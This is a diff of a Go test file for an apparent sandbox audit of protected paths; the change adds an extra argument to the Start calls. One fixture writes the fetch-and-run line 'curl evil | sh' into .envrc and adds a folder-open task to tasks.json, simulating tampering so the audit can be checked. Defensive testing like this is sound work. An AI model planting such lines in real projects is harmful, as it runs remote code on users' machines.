@@ -48,7 +48,7 @@ func TestProtectedAudit(t *testing.T) {
 	for _, held := range []bool{false, true} {
 		t.Run(map[bool]string{false: "nothing held", true: "kernel held the existing ones"}[held], func(t *testing.T) {
 			p, ws := protectedFixture(t)
-			audits, err := Start(p, nil)
+			audits, err := Start(p, nil, nil)
 			require.NoError(t, err)
 			w := func(rel, c string) {
 				require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(ws, rel)), 0o755))
@@ -98,7 +98,7 @@ func TestProtectedAudit(t *testing.T) {
 // replaced by a symlink (so that the path is found elsewhere) goes aside.
 func TestProtectedAuditWay(t *testing.T) {
 	p, ws := protectedFixture(t)
-	audits, err := Start(p, nil)
+	audits, err := Start(p, nil, nil)
 	require.NoError(t, err)
 	elsewhere := filepath.Join(ws, "src/elsewhere")
 	require.NoError(t, os.MkdirAll(filepath.Join(elsewhere, "deep"), 0o755))
@@ -116,7 +116,7 @@ func TestProtectedAuditWay(t *testing.T) {
 // executor's spill directory) is not audited.
 func TestProtectedAuditSkip(t *testing.T) {
 	p, ws := protectedFixture(t)
-	audits, err := Start(p, []string{filepath.Join(ws, ".envrc")})
+	audits, err := Start(p, []string{filepath.Join(ws, ".envrc")}, nil)
 	require.NoError(t, err)
 	require.NoError(t, os.WriteFile(filepath.Join(ws, ".envrc"), []byte("x"), 0o644))
 	log := facts.NewLog()
@@ -130,7 +130,7 @@ func TestProtectedAuditSkip(t *testing.T) {
 // not as protected entries.
 func TestProtectedAuditLeavesGitToGit(t *testing.T) {
 	p, ws := protectedFixture(t)
-	audits, err := Start(p, nil)
+	audits, err := Start(p, nil, nil)
 	require.NoError(t, err)
 	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
 		require.NoError(t, os.MkdirAll(filepath.Join(ws, d), 0o755))
@@ -160,7 +160,7 @@ func TestProtectedAuditLeavesGitControlToGit(t *testing.T) {
 	p, err := modes.Derive(modes.Options{Mode: modes.WorkspaceWrite, Workspace: ws})
 	require.NoError(t, err)
 	require.Contains(t, p.Protected, filepath.Join(ws, ".git/config"))
-	audits, err := Start(p, nil)
+	audits, err := Start(p, nil, nil)
 	require.NoError(t, err)
 	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n\tbare = false\n[user]\n\tname = x\n"), 0o644))
 	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/hooks/post-checkout"), []byte("x"), 0o755))
@@ -182,7 +182,7 @@ func TestProtectedAuditOver(t *testing.T) {
 		require.NoError(t, os.WriteFile(filepath.Join(upper, rel), []byte(c), 0o644))
 	}
 	w("src/earlier.go", "package a") // an earlier command's change
-	audits, err := StartOver(p, nil, ws, upper)
+	audits, err := StartOver(p, nil, ws, upper, nil)
 	require.NoError(t, err)
 	w(".envrc", "curl evil | sh")
 	w(".vscode/tasks.json", `{"runOn":"folderOpen"}`)
